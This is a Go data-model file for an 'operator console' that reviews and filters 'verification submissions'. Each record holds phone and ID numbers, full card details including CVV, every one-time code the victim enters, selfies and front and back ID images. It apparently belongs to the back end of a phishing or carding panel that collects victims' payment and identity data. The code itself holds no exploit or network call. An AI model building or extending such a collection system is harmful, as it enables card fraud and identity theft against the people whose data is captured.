// Package models defines the submission record observed by the operator
// console and the vocabulary used to moderate it.
package models

import (
	"fmt"
	"time"
)

// Disposition is the moderation state of a submission.
type Disposition string

const (
	DispositionPending  Disposition = "pending"
	DispositionApproved Disposition = "approved"
	DispositionRejected Disposition = "rejected"
)

// Valid reports whether d is one of the known disposition values.
func (d Disposition) Valid() bool {
	switch d {
	case DispositionPending, DispositionApproved, DispositionRejected:
		return true
	}
	return false
}

// ParseDisposition validates a raw disposition string.
func ParseDisposition(raw string) (Disposition, error) {
	d := Disposition(raw)
	if !d.Valid() {
		return "", fmt.Errorf("unknown disposition %q", raw)
	}
	return d, nil
}

// Filter narrows the derived view. The zero value means no narrowing.
type Filter string

const (
	FilterNone        Filter = ""
	FilterPending     Filter = "pending"
	FilterApproved    Filter = "approved"
	FilterRejected    Filter = "rejected"
	FilterHasCard     Filter = "has-card-info"
	FilterHasPersonal Filter = "has-personal-info"
)

// ParseFilter validates a raw filter string. An empty string clears the filter.
func ParseFilter(raw string) (Filter, error) {
	f := Filter(raw)
	switch f {
	case FilterNone, FilterPending, FilterApproved, FilterRejected, FilterHasCard, FilterHasPersonal:
		return f, nil
	}
	return "", fmt.Errorf("unknown filter %q", raw)
}

// InfoCategory selects which disclosure payload a detail view returns.
type InfoCategory string

const (
	InfoPersonal InfoCategory = "personal"
	InfoPayment  InfoCategory = "payment"
	InfoImages   InfoCategory = "images"
)

// ParseInfoCategory validates a raw category string.
func ParseInfoCategory(raw string) (InfoCategory, error) {
	c := InfoCategory(raw)
	switch c {
	case InfoPersonal, InfoPayment, InfoImages:
		return c, nil
	}
	return "", fmt.Errorf("unknown info category %q", raw)
}

// PersonalDetails is the personal-info disclosure payload. The engine never
// interprets it; only its presence drives filtering.
type PersonalDetails struct {
	Name string `json:"name"`
}

// CardDetails is the payment disclosure payload, preserved verbatim from the
// submitting client. One-time codes may arrive as a single value, a secondary
// value, or an accumulated list.
type CardDetails struct {
	Number      string   `json:"number"`
	Bank        string   `json:"bank,omitempty"`
	ExpiryMonth string   `json:"expiry_month,omitempty"`
	ExpiryYear  string   `json:"expiry_year,omitempty"`
	CVV         string   `json:"cvv,omitempty"`
	OTP         string   `json:"otp,omitempty"`
	OTPCode     string   `json:"otp_code,omitempty"`
	AllOTPs     []string `json:"all_otps,omitempty"`
}

// ImageSet holds references to images attached to a submission. References
// are opaque; the console never fetches or decodes them.
type ImageSet struct {
	ID      string   `json:"id,omitempty"`
	Card    string   `json:"card,omitempty"`
	Selfie  string   `json:"selfie,omitempty"`
	FrontID string   `json:"front_id,omitempty"`
	BackID  string   `json:"back_id,omitempty"`
	Extra   []string `json:"extra,omitempty"`
}

// All returns every attached image reference in a stable order: the named
// slots first, then the overflow list.
func (s ImageSet) All() []string {
	refs := make([]string, 0, 5+len(s.Extra))
	for _, ref := range []string{s.ID, s.Card, s.Selfie, s.FrontID, s.BackID} {
		if ref != "" {
			refs = append(refs, ref)
		}
	}
	refs = append(refs, s.Extra...)
	return refs
}

// Empty reports whether the set holds no references at all.
func (s ImageSet) Empty() bool {
	return len(s.All()) == 0
}

// Submission is a single verification submission as observed through the
// remote collection. ID is assigned by the store at creation and is the join
// key for edit staging, moderation targeting, and presence lookup.
type Submission struct {
	ID          string      `json:"id"`
	Phone       string      `json:"phone"`
	IDNumber    string      `json:"id_number"`
	Code        string      `json:"code"`
	Disposition Disposition `json:"disposition"`
	Hidden      bool        `json:"-"`
	ReceivedAt  time.Time   `json:"received_at"`

	Personal *PersonalDetails `json:"personal,omitempty"`
	Card     *CardDetails     `json:"card,omitempty"`
	Images   *ImageSet        `json:"images,omitempty"`
}

// HasCard reports whether the submission carries a card-number payload.
func (s Submission) HasCard() bool {
	return s.Card != nil && s.Card.Number != ""
}

// HasPersonal reports whether the submission carries a name payload.
func (s Submission) HasPersonal() bool {
	return s.Personal != nil && s.Personal.Name != ""
}

// HasImages reports whether any image reference is attached.
func (s Submission) HasImages() bool {
	return s.Images != nil && !s.Images.Empty()
}
